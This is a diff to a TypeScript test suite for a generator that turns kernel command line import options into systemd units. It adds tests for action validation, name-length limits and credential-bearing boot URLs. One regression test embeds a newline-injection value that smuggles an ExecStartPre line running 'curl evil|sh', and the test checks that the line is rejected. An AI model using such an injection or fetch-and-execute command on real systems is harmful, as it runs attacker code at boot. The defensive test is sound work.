@@ -3,6 +3,7 @@ import { test } from "node:test";
 import assert from "node:assert/strict";
 import { makePlan, type GeneratorInputs } from "../../../generator/plan.ts";
 import type { BootUrl } from "../../../generator/efi-boot-url.ts";
+import { renderUnits } from "../../../generator/render-units.ts";
 
 function plan(cmdline: string, more: Partial<GeneratorInputs> & { boot?: BootUrl } = {}) {
   const { boot, ...rest } = more;
@@ -37,6 +38,46 @@ test("rd. entries are for the initrd, unprefixed ones for the host", () => {
 test("success and failure actions, in both spellings", () => {
   const p = plan("rd.systemd.import.success_action=reboot rd.systemd.pull.failure-action=poweroff");
   assert.deepEqual(p.actions, { success: "reboot", failure: "poweroff" });
+  assert.deepEqual(plan("rd.systemd.import.success_action=reboot rd.systemd.import.success_action=").actions, {});
+});
+
+test("an action systemd does not know is logged and ignored; the earlier valid one stays", () => {
+  const p = plan("rd.systemd.import.success_action=poweroff rd.systemd.import.success_action=Reboot rd.systemd.pull.failure_action=explode rd.systemd.import.failure_action");
+  assert.deepEqual(p.actions, { success: "poweroff" });
+  const text = messages(p, "warning");
+  assert.match(text, /Invalid value for rd\.systemd\.import\.success_action= kernel command line switch, ignoring: Reboot \(expected one of none, reboot/);
+  assert.match(text, /Invalid value for rd\.systemd\.pull\.failure_action= kernel command line switch, ignoring: explode/);
+  assert.match(text, /Missing argument for rd\.systemd\.import\.failure_action= kernel command line switch/);
+  assert.deepEqual(plan("rd.systemd.import.failure_action=kexec-force").actions, { failure: "kexec-force" });
+});
+
+test("regression: a quoted action with a newline cannot add a line to the unit", () => {
+  const p = plan(`rd.systemd.import=::http://h/a.raw "rd.systemd.import.success_action=reboot\nExecStartPre=/bin/sh -c 'curl evil|sh'"`);
+  assert.deepEqual(p.actions, {});
+  const units = renderUnits(p.requests, { executable: "/x", inInitrd: true, settings: p.settings, actions: p.actions });
+  const text = units.files.map((f) => f.text).join("\n");
+  assert.doesNotMatch(text, /ExecStartPre|SuccessAction/);
+  assert.match(messages(p, "warning"), /Invalid value for rd\.systemd\.import\.success_action= kernel command line switch, ignoring: reboot\nExecStartPre/);
+});
+
+test("an entry over systemd's limits is refused alone, naming the value and the rule; the others are kept", () => {
+  const spaces = " ".repeat(60);
+  const p = plan(`rd.systemd.import=raw,root::http://h/root.raw "rd.systemd.import=sysext:${spaces}:http://h/x.raw" rd.systemd.import=sysext:ok:http://h/ok.raw`);
+  assert.deepEqual(p.requests.map((r) => r.local), ["root", "ok"]);
+  assert.ok(p.requests[0]!.root);
+  const err = messages(p, "err");
+  assert.match(err, /^rd\.systemd\.import= in \/proc\/cmdline: ' {60}' \(http:\/\/h\/x\.raw\): the LOCAL name would make the unit name netimport-pull-run-extensions-(\\x20){60}\.raw\.service 282 bytes long, over systemd's limit of 255: use a shorter LOCAL name\. Ignoring this entry\.$/);
+  // 251 bytes of LOCAL are a valid image name, but LOCAL.raw is not a valid file name.
+  const long = plan(`rd.systemd.import=::http://h/a.raw rd.systemd.import=raw:${"n".repeat(252)}:http://h/b.raw`);
+  assert.deepEqual(long.requests.map((r) => r.local), ["a"]);
+  assert.match(messages(long, "err"), /the image file name n{252}\.raw would be 256 bytes long, over the limit of 255 for a file name/);
+});
+
+test("a boot URL with credentials is refused: they would have to be written into the unit", () => {
+  const boot = { url: "http://u:secret@10.0.2.2/boot.efi", source: "StubDeviceURL" };
+  const p = plan("rd.systemd.import=raw,bootorigin::root.raw rd.systemd.import=::http://h/b.raw", { boot });
+  assert.deepEqual(p.requests.map((r) => r.local), ["b"]);
+  assert.match(messages(p, "err"), /The URL in StubDeviceURL carries a user name or password/);
 });
 
 test("rd.systemd.pull= and the credential are left to systemd's own generator when it is installed", () => {
@@ -60,7 +101,7 @@ test("the credential: one expression a line, # comments, blank lines, errors nam
 
 test("config file Pull= entries come after the command line", () => {
   const p = plan("rd.systemd.import=::http://h/a.raw", {
-    configs: [{ path: "/etc/netimport/netimport.conf", text: "[Import]\nPull=::http://h/b.raw\nPull=sysext::http://h/c.raw\n[Download]\nRetries=7\n" }],
+    configs: [{ path: "/etc/netimport/netimport.conf", content: "[Import]\nPull=::http://h/b.raw\nPull=sysext::http://h/c.raw\n[Download]\nRetries=7\n" }],
   });
   assert.deepEqual(p.requests.map((r) => r.local), ["a", "b", "c"]);
   assert.equal(p.requests[1]!.origin.path, "/etc/netimport/netimport.conf");
